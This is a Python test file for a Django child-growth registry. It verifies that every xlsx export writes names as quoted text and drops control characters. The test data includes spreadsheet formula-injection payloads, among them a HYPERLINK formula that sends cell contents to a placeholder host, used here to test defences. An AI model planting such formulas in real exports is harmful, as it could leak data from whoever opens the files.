"""Issue 16 items 2 and 3: every xlsx Tumbuh hands out goes through tumbuh.web.xlsx, which writes
user-supplied strings as text (never a formula) and cannot be broken by a control character.

The writer is tested on its own, then every export of the code base is downloaded with children
whose names are formulas or carry control characters, and each file is checked cell by cell."""

import datetime as dt
import io
import re
import zipfile

import pandas as pd
import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tumbuh.accounts.models import Role
from tumbuh.analytics import exports as analytics_exports
from tumbuh.imports import testing as t
from tumbuh.imports.services import import_eppgbm
from tumbuh.registry.models import Person
from tumbuh.web import xlsx

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"klik")', "+SUM(1,2)", "-1+1", "@cmd", "\tTab", "=1+1"]
QUOTE_STYLES = {"2", "3"}  # cellXfs with quotePrefix="1"


def cells(data: bytes) -> list[tuple[str, str, str]]:
    """(sheet, style, text) of every string cell; fails on any formula or unreadable file."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    out = []
    for name in archive.namelist():
        if not name.startswith("xl/worksheets/"):
            continue
        xml = archive.read(name).decode("utf-8")
        assert "<f>" not in xml and "<f " not in xml, f"{name} has a formula"
        for style, text in re.findall(r'<c r="[A-Z]+\d+" t="inlineStr"(?: s="(\d)")?><is><t[^>]*>(.*?)</t></is></c>', xml, re.S):
            out.append((name, style, text.replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">")
                        .replace("&#13;", "\r")))
    load_workbook(io.BytesIO(data))  # and a spreadsheet program can open it
    return out


def assert_safe(data: bytes) -> set[str]:
    found = cells(data)
    for _sheet, style, text in found:
        if text.startswith(xlsx.FORMULA_STARTS):
            assert style in QUOTE_STYLES, f"{text!r} is not marked as text"
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", text)
    return {text for _s, _st, text in found}


def test_the_writer_writes_strings_as_text_and_drops_control_characters():
    data = xlsx.workbook_bytes([xlsx.Sheet("Anak", [[f, 1, 2.5, None, dt.date(2025, 1, 2), True] for f in FORMULAS]
                                           + [["\x02¥\x04", float("nan"), "a<b&c"]], header=["=Nama", "x"])])
    texts = assert_safe(data)
    assert set(FORMULAS) <= texts and "¥" in texts and "a<b&c" in texts
    sheet = load_workbook(io.BytesIO(data)).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[1][0] == FORMULAS[0] and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    assert values[1][1:6] == (1, 2.5, None, dt.datetime(2025, 1, 2), True)
    assert values[-1][:3] == ("¥", None, "a<b&c")


def test_the_writer_keeps_excels_limits():
    wide = list(range(20_000))
    data = xlsx.workbook_bytes([xlsx.Sheet("wide", [wide], header=[f"c{i}" for i in range(20_000)])])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.max_column == xlsx.MAX_COLUMNS


def test_the_writer_streams():
    rows = ([i, f"Anak {i}"] for i in range(50_000))
    pieces = list(xlsx.stream([xlsx.Sheet("s", rows)], flush_bytes=1 << 16))
    assert len(pieces) > 3
    rows = list(load_workbook(io.BytesIO(b"".join(pieces)), read_only=True).active.iter_rows(values_only=True))
    assert len(rows) == 50_000 and rows[-1] == (49_999, "Anak 49999")


def test_analytics_frames_go_through_the_writer():
    frame = pd.DataFrame({"name": FORMULAS + ["\x02¥\x04"], "haz": [-2.5] * (len(FORMULAS) + 1)})
    texts = assert_safe(analytics_exports.frame_workbook({"bnba": frame}))
    assert set(FORMULAS) <= texts and "¥" in texts


@pytest.fixture
def hostile(db, tmp_path, django_user_model):
    """Children named with formulas, imported; one name with control characters written past the
    importer (as an older version or the admin could have); one rejected row named as a formula."""
    t.create_regions()
    user = django_user_model.objects.create_user("kota", password="x-pass-12345", role=Role.KABUPATEN,
                                                 region_id="64.74")
    children = t.make_children(len(FORMULAS) + 1, seed=5)
    for child, name in zip(children, FORMULAS, strict=False):
        child.name = name
        child.z_height = -3.5  # stunted, so they are on the BNBA
    children[-1].z_height = -3.5
    rows = t.make_rows(children, months=2, first=dt.date(2025, 4, 15))
    bad = dict(rows[0], Nama="=HYPERLINK(\"http://x\")", **{"Tgl Lahir": "31/02/2024"})
    batch = import_eppgbm(t.write_csv(tmp_path / "hostile.csv", [*rows, bad], comma_decimals=False),
                          user=user, region_code="64.74")
    assert batch.rejected == 1 and batch.imported == len(rows)
    Person.objects.filter(name=children[-1].name).update(name="\x02¥\x04 Budi")
    Person.objects.filter(name="Tab").update(name="\tTab")  # the importer squashes whitespace
    return user, batch


@pytest.mark.django_db
def test_every_export_writes_names_as_text_and_survives_control_characters(client, hostile):
    user, batch = hostile
    client.force_login(user)
    downloads = {
        "eppgbm": client.get(reverse("imports:export"), {"download": "1", "region": "64.74"}),
        "rejected": client.get(reverse("imports:rejected", args=[batch.pk])),
        "prevalence": client.get("/analytics/prevalence/", {"region": "64.74", "period": "2025-05", "format": "xlsx"}),
        "quality": client.get("/analytics/quality/", {"region": "64.74", "period": "2025-05", "format": "xlsx"}),
        "children": client.get(reverse("registry:child_list"), {"format": "xlsx"}),
    }
    for category in ("stunted", "wasted", "2T", "BGM", "not_measured"):
        downloads[f"bnba-{category}"] = client.get("/analytics/bnba/", {
            "region": "64.74", "period": "2025-05", "category": category, "format": "xlsx"})
    texts = {}
    for name, response in downloads.items():
        assert response.status_code == 200, name
        data = b"".join(response.streaming_content) if response.streaming else response.content
        texts[name] = assert_safe(data)
    assert set(FORMULAS) <= texts["eppgbm"] and "¥ Budi" in texts["eppgbm"]
    assert '=HYPERLINK("http://x")' in texts["rejected"]
    assert set(FORMULAS) <= texts["bnba-stunted"] and "¥ Budi" in texts["bnba-stunted"]
    assert set(FORMULAS) <= texts["children"] and "¥ Budi" in texts["children"]
